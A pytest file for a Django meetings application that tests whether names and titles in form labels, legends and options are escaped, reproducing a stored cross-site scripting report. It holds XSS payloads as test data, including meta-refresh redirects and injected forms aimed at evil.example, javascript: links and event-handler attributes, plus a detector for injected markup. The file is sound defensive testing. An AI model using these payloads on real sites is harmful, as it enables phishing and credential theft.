"""Names people write reach forms as labels, legends, hints and options: there they are text.

crispy-forms-gds prints labels, legends, hints and button text unescaped; the project's own
copies of those templates (templates/gds/) escape them. A member who sets their name to markup
must not be able to put that markup into the secretariat's attendance page, or any other form.
"""

import datetime
import re
from html.parser import HTMLParser
from pathlib import Path

import crispy_forms_gds
import pytest
from django.conf import settings
from django.urls import reverse
from django.utils import timezone

from meetings.enums import MeetingStatus
from meetings.models import AgendaItem, Meeting, Paper
from steering.tests.test_permission_walk import EXPECTED, _named_patterns, _url, url_kwargs  # noqa: F401 - a fixture
from workstreams.models import Organisation

# One payload for each kind of name, each with a different way of taking over a page.
PERSON_NAMES = {
    "member": 'Gareth Lloyd<meta http-equiv="refresh" content="1;url=https://evil.example/phish">',
    "chair": 'Siân Jones</form><form action="https://evil.example/steal"><input name="x">',
    "secretariat": '<a href="javascript:alert(1)">Huw</a> Evans<base href="https://evil.example/">',
    "observer": '<iframe src="https://evil.example/"></iframe>Eleri Rees<img src=x onerror=alert(1)>',
}
ORGANISATION = {
    "name_en": 'Cardiff Council<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "name_cy": 'Cyngor Caerdydd</select><iframe src="https://evil.example/">',
    "acronym_en": "<base href=//e.x>",
    "acronym_cy": "<b onclick=alert(1)>",
}
GROUP = {
    "name_en": 'ALN</label><form action="https://evil.example/">',
    "name_cy": "ADY<script>alert(1)</script>",
    "short_name_en": "<svg/onload=alert(1)>",
    "short_name_cy": "<u onmouseover=alert(1)>",
}
ITEM_TITLES = {
    "title_en": 'Welcome</legend><a href="javascript:alert(1)">here</a>',
    "title_cy": "Croeso<details open ontoggle=alert(1)>",
}
PAPER_TITLES = {"title_en": "LAC scenario<object data=javascript:alert(1)>", "title_cy": "Papur<embed src=x>"}

# Template expressions that print HTML the form itself rendered, or attributes crispy builds with
# Django's flatatt (which escapes): these may stay unescaped. Anything else printed with |safe in a
# crispy-forms-gds template must be escaped by the project's own copy of that template.
RENDERED_HTML = {"fields", "flat_attrs", "content", "links", "choices", "conditional_content"}


def test_no_crispy_template_prints_a_label_legend_hint_or_option_unescaped():
    package = Path(crispy_forms_gds.__file__).parent / "templates"
    ours = Path(settings.BASE_DIR) / "templates"
    unsafe = []
    for template in sorted(package.rglob("*.html")):
        name = template.relative_to(package)
        used = ours / name if (ours / name).exists() else template
        for expression in re.findall(r"\{\{\s*([\w.]+)\|safe\s*\}\}", used.read_text()):
            if expression.rsplit(".", 1)[-1] not in RENDERED_HTML:
                unsafe.append(f"{name}: {expression}")
    assert unsafe == []


class _Page(HTMLParser):
    """The page as a browser reads it: its visible text, and anything a payload could have made."""

    def __init__(self, html: str):
        super().__init__(convert_charrefs=True)
        self.text: list[str] = []
        self.injected: list[str] = []
        self.feed(html)
        self.close()
        self.text = " ".join(" ".join(self.text).split())

    def handle_starttag(self, tag, attrs):
        attributes = dict(attrs)
        if tag in {"iframe", "object", "embed", "base"}:
            self.injected.append(tag)
        if tag == "meta" and "refresh" in (attributes.get("http-equiv") or "").lower():
            self.injected.append("meta refresh")
        if tag == "script" and not (attributes.get("src") or "").startswith("/static/"):
            self.injected.append("script")
        for name, value in attrs:
            lowered = (value or "").strip().lower()
            address = name in {"href", "src", "action", "formaction", "data", "content"}
            if name.startswith("on") or (address and ("evil.example" in lowered or "javascript:" in lowered)):
                self.injected.append(f"<{tag} {name}={value}>")

    def handle_data(self, data):
        self.text.append(data)


@pytest.fixture
def hostile_names(cast, url_kwargs):  # noqa: F811 - the walk's fixture
    for role, name in PERSON_NAMES.items():
        person = getattr(cast, role)
        person.full_name = name
        person.save(update_fields=["full_name"])
    for n, organisation in enumerate(Organisation.objects.filter(memberships__group=cast.group), start=1):
        for field, value in ORGANISATION.items():
            setattr(organisation, field, f"{value}{n}" if field.startswith("name") else value)
        organisation.save()
    for field, value in GROUP.items():
        setattr(cast.group, field, value)
    cast.group.save()
    AgendaItem.objects.update(**ITEM_TITLES)
    Paper.objects.update(**PAPER_TITLES)
    # The walk's meeting is past its agenda; a planned one shows the agenda's and the attendance's forms.
    planned = Meeting.objects.create(
        group=cast.group, number=2, starts_at=timezone.make_aware(datetime.datetime(2030, 1, 20, 10))
    )
    item = AgendaItem.objects.create(meeting=planned, position=1, **ITEM_TITLES)
    assert planned.status == MeetingStatus.PLANNED
    return {"planned": planned, "item": item, **url_kwargs}


def _organisation_name(language: str) -> str:
    return ORGANISATION[f"name_{language}"] + "1"


def _people(*roles) -> list[str]:
    return [PERSON_NAMES[role] for role in roles]


def _forms_showing_names(kwargs, language) -> list[tuple[str, list[str]]]:
    """Each form page with names in its labels, legends or options, and the names it must show."""
    planned, item, meeting = kwargs["planned"].pk, kwargs["item"].pk, kwargs["pk"]
    slug = kwargs["slug"]
    members = _people("member", "chair", "secretariat")
    organisation = _organisation_name(language)
    return [
        (reverse("meetings:attendance", args=[planned]), [*members, organisation]),
        (reverse("meetings:edit", args=[planned]), members),
        (reverse("meetings:item_add", args=[planned]), [*members, organisation]),
        (reverse("meetings:item_edit", args=[planned, item]), [*members, organisation]),
        # The editor shows no owner list: its action form is the item's page's, fetched when opened.
        (reverse("meetings:minutes_edit", args=[meeting]), []),
        (reverse("actions:action_add", args=[meeting, kwargs["item_id"]]), [*members, organisation]),
        (reverse("actions:action_edit", args=[kwargs["action_id_for_detail"]]), [*members, organisation]),
        (reverse("actions:log", args=[slug]), members),
        (reverse("actions:feedback_create", args=[slug]), [PAPER_TITLES[f"title_{language}"]]),
        (reverse("workstreams:membership_add", args=[slug]), [GROUP[f"name_{language}"]]),
        (reverse("workstreams:membership_change", args=[slug, kwargs["membership_id"]]), [PERSON_NAMES["member"]]),
        (reverse("workstreams:membership_end", args=[slug, kwargs["membership_id"]]), [PERSON_NAMES["member"]]),
        (reverse("account"), []),
    ]


@pytest.mark.parametrize("language", ["en", "cy"])
def test_names_in_form_labels_and_options_are_shown_as_typed(language, cast, hostile_names, client_as):
    client = client_as(cast.secretariat)
    client.post(reverse("set_language"), {"language": language, "next": "/"})
    shown = {}
    for url, names in _forms_showing_names(hostile_names, language):
        response = client.get(url)
        assert response.status_code == 200, url
        page = _Page(response.text)
        assert (url, page.injected) == (url, [])
        shown[url] = [name for name in names if " ".join(name.split()) not in page.text]
    assert shown == {url: [] for url in shown}


@pytest.mark.parametrize("role", ["member", "chair", "secretariat"])
def test_no_page_of_the_walk_lets_a_name_or_title_take_it_over(role, cast, hostile_names, client_as):
    client = client_as(cast.person(role))
    injected = {}
    for language in ("en", "cy"):
        client.post(reverse("set_language"), {"language": language, "next": "/"})
        for name, pattern in _named_patterns():
            if EXPECTED[name][role] != 200:
                continue
            response = client.get(_url(name, pattern, hostile_names))
            if response.get("Content-Type", "").startswith("text/html"):
                found = _Page(response.text).injected
                # No box is cut short by the browser: a form says what is too long instead.
                found += ["maxlength"] if " maxlength=" in response.text else []
                if found:
                    injected[f"{language} {name}"] = found
    assert injected == {}


def test_the_reproduction_a_members_own_name_on_the_attendance_page(cast, hostile_names, client_as):
    """The steps of the report: the member sets the name on /account/, the secretariat opens attendance."""
    member = client_as(cast.member)
    response = member.post(reverse("account"), {"full_name": PERSON_NAMES["member"], "preferred_language": "en"})
    assert response.status_code == 302
    cast.member.refresh_from_db()
    assert cast.member.full_name == PERSON_NAMES["member"]

    page = client_as(cast.secretariat).get(reverse("meetings:attendance", args=[hostile_names["planned"].pk]))
    html = page.content.decode()
    assert "&lt;meta http-equiv=&quot;refresh&quot;" in html
    assert '<meta http-equiv="refresh"' not in html
    assert html.count("<form") == html.count("</form>")
